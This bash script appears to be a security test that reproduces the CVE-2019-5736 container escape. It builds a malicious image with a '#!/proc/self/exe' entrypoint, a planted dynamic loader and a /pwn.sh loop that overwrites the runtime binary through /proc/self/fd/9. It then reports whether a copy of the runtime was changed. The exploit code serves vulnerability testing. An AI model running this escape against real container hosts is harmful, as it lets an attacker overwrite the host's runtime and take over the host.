#!/bin/bash
# CVE-2019-5736, malicious image: the image's entrypoint /evil is a script whose interpreter is
# `#!/proc/self/exe`. The runtime's init executes the entrypoint, so the kernel runs the
# *runtime binary* again, inside the container. That binary is dynamically linked, and its
# ELF interpreter is looked up in the container: the image's /lib64/ld-linux-x86-64.so.2 is
# evil-ld.S, which opens /proc/self/exe (the runtime binary as the host sees it) read-only
# as fd 9 and execs /pwn.sh; /pwn.sh loops writing /proc/self/fd/9 until the runtime processes
# on the host have exited (ETXTBSY until then).
# Escaped = the runtime binary the attack ran (a copy in $WORK) changed.
. "$(dirname "$0")/lib.sh"

copy_runtime
before=$(sha "$RUNTIME_COPY")
B=$WORK/bundle
make_bundle "$B"
R=$B/rootfs
plant_evil_ld "$R"
printf '#!/proc/self/exe\n' >"$R/evil"
chmod 755 "$R/evil"
cat >"$R/pwn.sh" <<'EOF'
echo "pwn: running as pid $$, fd 9 -> $(readlink /proc/self/fd/9)"
i=0 err=
while [ $i -lt 150 ]; do
    err=$( (printf 'pwned\n' >/proc/self/fd/9) 2>&1) && { echo "pwn: WROTE"; exit 0; }
    case $err in *busy*) ;; *) break ;; esac
    i=$((i + 1))
    sleep 0.1
done
echo "pwn: write failed: $err"
EOF
set_args "$B" /evil

ID=$ID_PREFIX
OUT=$WORK/out
rt create --bundle "$B" "$ID" >"$OUT" 2>&1 </dev/null ||
    finish error "create failed: $(oneline "$OUT")"
rt start "$ID" >>"$OUT" 2>&1 || log "start failed: $(oneline "$OUT")"
# Until /pwn.sh reports, or the container is gone (the runtime exited as its pid 1).
for _ in $(seq 1 100); do
    grep -qE 'pwn: (WROTE|write failed)' "$OUT" && break
    if ! grep -q 'pwn: running' "$OUT"; then
        s=$(status "$ID")
        [ "$s" = stopped ] || [ -z "$s" ] && break
    fi
    sleep 0.2
done
log "container output:"
cat "$OUT"
after=$(sha "$RUNTIME_COPY")
if [ "$before" != "$after" ]; then
    finish escaped "the runtime binary (copy) was overwritten from inside the container: now starts with '$(head -c 20 "$RUNTIME_COPY" | tr -cd '[:print:]')'"
fi
if grep -q 'pwn: running' "$OUT"; then
    finish blocked "the runtime ran inside the container and was opened as $(sed -n 's/.*fd 9 -> //p' "$OUT" | head -n1), but could not be written ($(sed -n 's/.*write failed: //p' "$OUT" | head -n1))"
fi
if [ -n "$(runtime_interp)" ]; then
    finish error "the runtime is dynamically linked, yet the loader planted in the image never ran: $(oneline "$OUT" 2)"
fi
finish blocked "the runtime is statically linked: run again inside the container it loads nothing from the image, and with a pid namespace nothing else can reach it ($(oneline "$OUT" 1))"
